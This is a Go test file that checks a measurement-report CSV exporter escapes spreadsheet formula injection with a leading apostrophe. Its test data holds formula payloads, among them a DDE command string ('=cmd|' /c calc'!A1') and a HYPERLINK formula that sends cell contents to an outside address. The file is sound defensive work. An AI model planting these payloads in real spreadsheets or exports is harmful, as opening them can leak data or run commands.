package export_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"lidded/sweep"
	"lidded/sweep/handread"
	"lidded/sweep/report/export"
)

// formulas are texts that a spreadsheet would run.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"http://192.0.2.1/\"&A1)", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
}

// TestNoCellIsAFormula: names of an imported file and what instruments say reach
// the tables as text; levels stay numbers.
func TestNoCellIsAFormula(t *testing.T) {
	for _, f := range formulas {
		if got := export.Text(f); got != "'"+f {
			t.Errorf("%q is written as %q", f, got)
		}
	}
	for _, plain := range []string{"", "heron", "a=b", "'=", "locker-a", "\u2212"} {
		if got := export.Text(plain); got != plain {
			t.Errorf("%q is written as %q", plain, got)
		}
	}
	const evil = "=cmd|' /c calc'!A1"
	sheet, err := handread.Parse("levels.csv", strings.NewReader("freq_mhz,state,specimen,position,level_dbm,noise_floor_dbm\n30,reference,,+front,-30,-100\n30,enclosed,"+evil+",+front,-80,-100\n"))
	if err != nil {
		t.Fatal(err)
	}
	run, captures := sheet.Run(sweep.Run{ID: "0196f0c2-7d10-7b6e-8c31-5a0f3c2e9d11", Bench: sweep.Bench{Name: "by hand", Uncertainty: 1}})
	captures[1].Void = "@the source says so"
	b := export.Bundle{Run: run, Evaluation: sweep.Evaluate(run, captures), Captures: func(yield func(sweep.Capture, error) bool) {
		for _, c := range captures {
			if !yield(c, nil) {
				return
			}
		}
	}}
	seen := ""
	for name, f := range written(t, b) {
		if !strings.HasSuffix(name, ".csv") {
			continue
		}
		rows, err := csv.NewReader(strings.NewReader(f.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				seen += cell + "\n"
				number := strings.HasPrefix(cell, "-") && strings.Trim(cell, "-.0123456789") == ""
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@") && !number && rows[0][i] != "se_relation" {
					t.Errorf("%s, %s: %q", name, rows[0][i], cell)
				}
			}
		}
	}
	for _, want := range []string{"'" + evil, "'+front", "-80", "'@the source says so"} {
		if !strings.Contains(seen, want+"\n") {
			t.Errorf("no cell has %q", want)
		}
	}
}
